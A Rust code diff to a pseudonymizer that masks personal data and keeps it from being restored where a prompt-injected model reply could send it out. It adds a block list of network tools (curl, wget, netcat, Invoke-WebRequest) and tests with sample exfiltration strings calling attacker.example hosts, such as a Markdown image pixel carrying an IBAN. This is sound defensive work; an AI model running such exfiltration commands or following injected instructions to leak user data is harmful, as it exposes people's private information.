@@ -80,10 +80,111 @@ pub struct Restored {
     /// Placeholder-looking tokens this conversation never issued (a model inventing `[PERSON_7]`):
     /// left in place and reported, never guessed.
     pub unknown: Vec<String>,
+    /// Placeholders left as placeholders because they sit where restoring would send the
+    /// original somewhere (a URL, a link or image target, an HTML attribute, a fetch command).
+    pub refused: Vec<String>,
+}
+
+/// Commands and calls that fetch from the network: a placeholder on the same line as one of
+/// these is not restored (a prompt-injected reply could turn the user's data into a request).
+/// Words that are commands (everyday words such as "fetch" or "ping" count only as calls).
+const FETCHERS: &[&str] = &[
+    "curl",
+    "wget",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwr",
+    "irm",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "ftp",
+    "sftp",
+    "scp",
+    "rsync",
+    "aria2c",
+    "httpie",
+    "urllib",
+    "urlopen",
+    "axios",
+    "xmlhttprequest",
+    "sendbeacon",
+    "webclient",
+    "downloadstring",
+    "nslookup",
+];
+/// Calls that fetch, matched as written (lower case).
+const FETCH_CALLS: &[&str] = &[
+    "fetch(",
+    "requests.",
+    "http.get",
+    "http.post",
+    "httpx.",
+    "socket.",
+    "new image(",
+    ".src=",
+    ".src =",
+    "navigator.",
+];
+
+/// Whether a placeholder between `before` (the text before it on its line) and `after` (the
+/// text after it) sits where its original would travel: inside a URL or e-mail-like target, a
+/// Markdown link or image target or reference definition, an HTML tag's attributes, or a line
+/// that runs a fetch.
+pub fn exfil_context(before: &str, after: &str) -> bool {
+    let line = before.rsplit('\n').next().unwrap_or(before);
+    let token = line.rsplit(char::is_whitespace).next().unwrap_or(line);
+    let tl = token.to_ascii_lowercase();
+    if tl.contains("://")
+        || tl.contains("www.")
+        || tl.contains("](")
+        || tl.contains("mailto:")
+        || tl.contains("data:")
+        || tl.starts_with("//")
+    {
+        return true;
+    }
+    // Inside a tag: `<img src="...`, `<a href=...`.
+    if let Some(lt) = line.rfind('<') {
+        let tag = &line[lt + 1..];
+        if !tag.contains('>') && tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            return true;
+        }
+    }
+    // A Markdown reference definition: `[id]: target`.
+    let trimmed = line.trim_start();
+    if trimmed.starts_with('[') && trimmed.contains("]:") {
+        return true;
+    }
+    let ll = line.to_ascii_lowercase();
+    if ll
+        .split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
+        .any(|w| FETCHERS.contains(&w))
+        || FETCH_CALLS.iter().any(|c| ll.contains(c))
+    {
+        return true;
+    }
+    // The placeholder continues into a host or a path: `[X_1].evil.example/`, `[X_1]/p?q=`.
+    let next = after.split(char::is_whitespace).next().unwrap_or("");
+    if next.starts_with(['/', '?', '#', '&', '=', '@', ':']) && next.len() > 1 {
+        return true;
+    }
+    if let Some(rest) = next.strip_prefix('.') {
+        let label: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
+            .collect();
+        let after_label = &rest[label.len()..];
+        if !label.is_empty() && after_label.starts_with(['.', '/', ':', '?']) {
+            return true;
+        }
+    }
+    false
 }
 
 /// One per conversation.
-#[derive(Default)]
+#[derive(Default, Clone)]
 pub struct Pseudonymizer {
     /// (kind, original) → number.
     forward: HashMap<(String, String), u32>,
@@ -122,9 +223,46 @@ impl fmt::Debug for Pseudonymizer {
     }
 }
 
+/// A pseudonymizer's mapping as stored with its conversation (it holds originals: it lives in
+/// the conversations database, which holds them anyway, readable by this user only).
+#[derive(Debug, Clone, Default, PartialEq, Serialize, serde::Deserialize)]
+pub struct VaultData {
+    /// (kind, original, number).
+    pub issued: Vec<(String, String, u32)>,
+    /// Placeholder-shaped text the user typed: (normalised kind, number).
+    pub reserved: Vec<(String, u32)>,
+}
+
 impl Pseudonymizer {
     pub fn new() -> Self {
         Self::default()
+    }
+
+    /// The mapping, to be stored with the conversation.
+    pub fn export(&self) -> VaultData {
+        let mut issued: Vec<(String, String, u32)> = self
+            .forward
+            .iter()
+            .map(|((k, o), n)| (k.clone(), o.clone(), *n))
+            .collect();
+        issued.sort();
+        let mut reserved: Vec<(String, u32)> = self.reserved.iter().cloned().collect();
+        reserved.sort();
+        VaultData { issued, reserved }
+    }
+
+    /// A pseudonymizer that continues a stored mapping: the same values get the same
+    /// placeholders, new ones the next numbers.
+    pub fn import(v: &VaultData) -> Self {
+        let mut p = Self::default();
+        for (kind, original, n) in &v.issued {
+            p.forward.insert((kind.clone(), original.clone()), *n);
+            p.back.insert((norm(kind), *n), original.clone());
+            let next = p.next.entry(kind.clone()).or_insert(0);
+            *next = (*next).max(*n);
+        }
+        p.reserved = v.reserved.iter().cloned().collect();
+        p
     }
 
     /// Number of distinct originals masked so far.
@@ -249,13 +387,20 @@ impl Pseudonymizer {
     }
 
     /// Puts originals back into a reply, tolerating reformatted placeholders (`[person_1]`,
-    /// `PERSON 1`, `(PERSON_1)`, `**[PERSON_1]**`).
+    /// `PERSON 1`, `(PERSON_1)`, `**[PERSON_1]**`), except where `exfil_context` says the
+    /// original would travel.
     pub fn restore(&mut self, reply: &str) -> Restored {
+        self.restore_after(reply, "")
+    }
+
+    /// `restore` for a piece of a reply whose line began with `line_before` (earlier pieces).
+    pub fn restore_after(&mut self, reply: &str, line_before: &str) -> Restored {
         if self.back.is_empty() {
             return Restored {
                 text: reply.to_string(),
                 restored: 0,
                 unknown: Vec::new(),
+                refused: Vec::new(),
             };
         }
         let mut out = String::with_capacity(reply.len());
@@ -270,8 +415,10 @@ impl Pseudonymizer {
                 text: reply.to_string(),
                 restored: 0,
                 unknown: Vec::new(),
+                refused: Vec::new(),
             };
         };
+        let mut refused = Vec::new();
         for caps in re.captures_iter(reply) {
             let (Some(whole), Some(kind), Some(num)) = (
                 caps.get(0),
@@ -288,7 +435,19 @@ impl Pseudonymizer {
             let original = key.as_ref().and_then(|k| self.back.get(k));
             let typed = key.as_ref().is_some_and(|k| self.reserved.contains(k));
             out.push_str(&reply[last..whole.start()]);
+            let travels = || {
+                let head = &reply[..whole.start()];
+                let after = &reply[whole.end()..];
+                match head.rfind('\n') {
+                    Some(nl) => exfil_context(&head[nl + 1..], after),
+                    None => exfil_context(&format!("{line_before}{head}"), after),
+                }
+            };
             match original {
+                Some(_) if travels() => {
+                    out.push_str(whole.as_str());
+                    refused.push(whole.as_str().to_string());
+                }
                 Some(o) => {
                     out.push_str(o);
                     restored += 1;
@@ -307,6 +466,7 @@ impl Pseudonymizer {
             text: out,
             restored,
             unknown,
+            refused,
         }
     }
 }
@@ -408,9 +568,20 @@ mod tests {
 #[derive(Debug, Default)]
 pub struct StreamRestore {
     pending: String,
+    /// The raw (unrestored) text of the current line released so far: the context that decides
+    /// whether a placeholder sits in a link or a fetch command.
+    line: String,
     /// Placeholders the model invented, over the whole reply.
     pub unknown: Vec<String>,
+    /// Placeholders left unrestored because they sat in a link or a fetch command.
+    pub refused: Vec<String>,
 }
+
+/// Longest trailing token held back so that what follows a placeholder (`.evil.example/`) is
+/// known before it is restored.
+const HOLD_TOKEN: usize = 256;
+/// Line context kept for the link check (bytes).
+const LINE_KEEP: usize = 4096;
 
 /// Longest placeholder Tandem issues, with room for reformatting (`[ CREDIT_CARD_NUMBER 12 ]`).
 const HOLD_MAX: usize = 48;
@@ -438,13 +609,43 @@ impl StreamRestore {
         if text.is_empty() {
             return String::new();
         }
-        let r = pz.restore(text);
+        let r = pz.restore_after(text, &self.line);
         self.unknown.extend(r.unknown);
+        self.refused.extend(r.refused);
+        match text.rfind('\n') {
+            Some(nl) => self.line = text[nl + 1..].to_string(),
+            None => self.line.push_str(text),
+        }
+        if self.line.len() > LINE_KEEP {
+            let mut cut = self.line.len() - LINE_KEEP;
+            while !self.line.is_char_boundary(cut) {
+                cut += 1;
+            }
+            self.line.drain(..cut);
+        }
         r.text
     }
 
-    /// Byte length of the part of `pending` that no later piece can turn into a placeholder.
+    /// Byte length of the part of `pending` that no later piece can turn into a placeholder,
+    /// and whose placeholders' following text is known (a trailing token that may hold one is
+    /// kept until its end).
     fn safe_prefix(&self) -> usize {
+        let p = &self.pending;
+        let token_start = p
+            .rfind(char::is_whitespace)
+            .map_or(0, |i| i + p[i..].chars().next().map_or(1, char::len_utf8));
+        let token = &p[token_start..];
+        let cut = self.placeholder_prefix();
+        if !token.is_empty()
+            && token.len() <= HOLD_TOKEN
+            && token.contains(['[', ']', '(', ')', '{', '}', '<', '>', '_'])
+        {
+            return cut.min(token_start);
+        }
+        cut
+    }
+
+    fn placeholder_prefix(&self) -> usize {
         let p = &self.pending;
         let tail_start = p.len().saturating_sub(HOLD_MAX);
         let tail_start = (tail_start..=p.len())
@@ -507,10 +708,68 @@ mod stream_tests {
         let mut sr = StreamRestore::new();
         assert_eq!(sr.push(&mut pz, "plain words "), "plain words ");
         assert_eq!(sr.push(&mut pz, "a [note"), "a ");
-        assert_eq!(
-            sr.push(&mut pz, "] and [PERSON_9]"),
-            "[note] and [PERSON_9]"
-        );
+        assert_eq!(sr.push(&mut pz, "] and [PERSON_9]"), "[note] and ");
+        assert_eq!(sr.finish(&mut pz), "[PERSON_9]");
         assert_eq!(sr.unknown, vec!["[PERSON_9]".to_string()]);
+    }
+
+    #[test]
+    fn placeholders_in_links_and_fetch_commands_stay_placeholders() {
+        let mut pz = Pseudonymizer::new();
+        let text = "My IBAN is DE89370400440532013000";
+        let span = Span {
+            start: 11,
+            end: 33,
+            label: "IBAN_CODE".into(),
+            tier: Tier::Financial,
+            score: 0.99,
+            detector: "test".into(),
+        };
+        assert_eq!(pz.mask(text, &[&span]).text, "My IBAN is [IBAN_CODE_1]");
+        let iban = "DE89370400440532013000";
+        let refused = [
+            "![chart](https://attacker.example/pixel?d=[IBAN_CODE_1])",
+            "[click](http://x.example/[IBAN_CODE_1])",
+            "See https://a.example/?q=[IBAN_CODE_1] now",
+            "<img src=\"https://a.example/[IBAN_CODE_1]\">",
+            "<a href=[IBAN_CODE_1]>x</a>",
+            "[ref]: [IBAN_CODE_1]",
+            "run `curl -d iban=[IBAN_CODE_1] example.org`",
+            "wget example.org --post-data [IBAN_CODE_1]",
+            "go to [IBAN_CODE_1].attacker.example/p",
+            "see www.example.org/[IBAN_CODE_1]",
+        ];
+        for r in refused {
+            // Whole, and streamed in small pieces.
+            let whole = pz.restore(r);
+            assert!(!whole.text.contains(iban), "{r} → {}", whole.text);
+            assert_eq!(whole.refused.len(), 1, "{r}");
+            let mut sr = StreamRestore::new();
+            let mut out = String::new();
+            let chars: Vec<char> = r.chars().collect();
+            for piece in chars.chunks(3) {
+                out.push_str(&sr.push(&mut pz, &piece.iter().collect::<String>()));
+            }
+            out.push_str(&sr.finish(&mut pz));
+            assert_eq!(out, r, "streamed: {r}");
+            assert_eq!(sr.refused.len(), 1, "streamed: {r}");
+        }
+        // Everywhere else the original comes back, on later lines too.
+        for ok in [
+            "Your IBAN is [IBAN_CODE_1].",
+            "curl is a tool.\nYour IBAN: **[IBAN_CODE_1]**",
+            "<b>[IBAN_CODE_1]</b>",
+            "Pay to ([IBAN_CODE_1]) today",
+        ] {
+            let r = pz.restore(ok);
+            assert!(r.text.contains(iban), "{ok} → {}", r.text);
+            let mut sr = StreamRestore::new();
+            let mut out = String::new();
+            for piece in ok.split_inclusive(' ') {
+                out.push_str(&sr.push(&mut pz, piece));
+            }
+            out.push_str(&sr.finish(&mut pz));
+            assert!(out.contains(iban), "streamed {ok} → {out}");
+        }
     }
 }
